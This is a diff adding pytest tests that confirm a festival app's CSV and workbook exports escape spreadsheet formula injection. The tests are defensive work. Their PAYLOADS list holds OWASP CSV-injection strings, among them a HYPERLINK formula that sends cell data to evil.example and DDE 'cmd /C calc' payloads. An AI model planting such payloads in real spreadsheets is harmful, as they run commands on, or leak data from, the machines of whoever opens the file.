@@ -12,6 +12,7 @@ import pg_scratch
 from app.cli import main as cli
 from conftest import ON_POSTGRES, TEST_DATABASE_URL, writable
 from db import clock
+from db.source import models as m
 from db.compiled.tables import READ_MODELS, PublicSecret, create_tables
 from seed import bundled_fixtures
 from seed.export import export_festival
@@ -97,3 +98,92 @@ def test_the_cli_exports_to_a_new_folder_and_refuses_one_that_holds_csv_files(tm
     assert again.exit_code == 1 and "already holds CSV files" in again.output
     missing = runner.invoke(cli, ["export", "no-such-fest", str(tmp_path / "other")])
     assert missing.exit_code == 2 and "no festival with slug 'no-such-fest'" in missing.output
+
+
+# The OWASP CSV-injection payloads: each would run (or start to) in a spreadsheet that opens
+# the file, were it written as it is.
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click for results")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C notepad'!'A1'",
+]
+# Not formulas, yet they must come back as they were: an apostrophe of their own, a number.
+KEPT = ["'=already quoted", "''two", "'plain", "-5"]
+
+
+def festival_with_payloads():
+    from natural_festival import natural_festival
+
+    data = natural_festival()
+    names = PAYLOADS + KEPT
+    for n, name in enumerate(names, start=1):
+        if n <= len(data["candidates"]):
+            data["candidates"][n - 1]["name"] = name
+        else:
+            data["candidates"].append({"admission_number": f"ADM-{n}", "name": name})
+    data["news"].append({"title": "=1+1", "summary": "+cmd|' /C calc'!A0", "status": "published",
+                         "published_at": "2026-01-02T00:00:00Z"})
+    return data
+
+
+def test_an_exported_csv_never_holds_a_cell_a_spreadsheet_would_run(tmp_path, frozen_clock):
+    from seed.importer import import_fixture
+
+    folder = tmp_path / "export"
+    with empty_database(tmp_path, "first"):
+        festival = import_fixture(festival_with_payloads()).festival
+        before = public_rows(festival.id)
+        secret = PublicSecret.get(PublicSecret.festival == festival.id).hash_key
+        export_festival(festival, folder)
+    cells = []
+    for path in folder.glob("*.csv"):
+        with open(path, newline="", encoding="utf-8") as fh:
+            cells += [cell for row in csv.reader(fh) for cell in row]
+    for payload in PAYLOADS:
+        assert "'" + payload in cells, payload
+        assert payload not in cells, payload
+    assert [cell for cell in cells if cell and (cell[0] in "=+@\t\r" or (
+        cell[0] == "-" and not re.fullmatch(r"-[\d.]+", cell)))] == []
+    assert {"''=already quoted", "'''two", "'plain", "-5"} <= set(cells)
+    with empty_database(tmp_path, "second"):
+        PublicSecret.create(festival=festival.id, hash_key=secret)
+        import_file(folder)
+        assert public_rows(festival.id) == before, "the importer takes the apostrophe off again"
+        names = {c.name for c in m.Candidate.select()}
+    assert set(PAYLOADS + KEPT) <= names
+
+
+def test_an_exported_workbook_holds_them_as_text_and_imports_to_the_same_names(tmp_path, frozen_clock):
+    """A workbook's cell is XML text, where a carriage return reads back as a line feed
+    (openpyxl writes it as it is): that payload comes back with ``\\n``, every other as it was."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from seed.importer import import_fixture
+    from seed.workbook import folder_as_workbook
+
+    book, remade = tmp_path / "festival.xlsx", tmp_path / "from-folder.xlsx"
+    with empty_database(tmp_path, "first"):
+        festival = import_fixture(festival_with_payloads()).festival
+        export_festival(festival, book)
+        export_festival(festival, tmp_path / "folder")
+    folder_as_workbook(tmp_path / "folder", remade)
+    expected = {name.replace("\r", "\n") for name in PAYLOADS + KEPT}
+    for n, path in enumerate((book, remade)):
+        with zipfile.ZipFile(path) as archive:
+            sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets), "no formula in any cell"
+        cells = {c.value: c for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for c in row
+                 if isinstance(c.value, str)}
+        for payload in expected - set(KEPT):
+            assert cells[payload].data_type == "s" and cells[payload].quotePrefix, (path.name, payload)
+        with empty_database(tmp_path, f"again{n}"):
+            import_file(path)
+            assert expected <= {c.name for c in m.Candidate.select()}, path.name
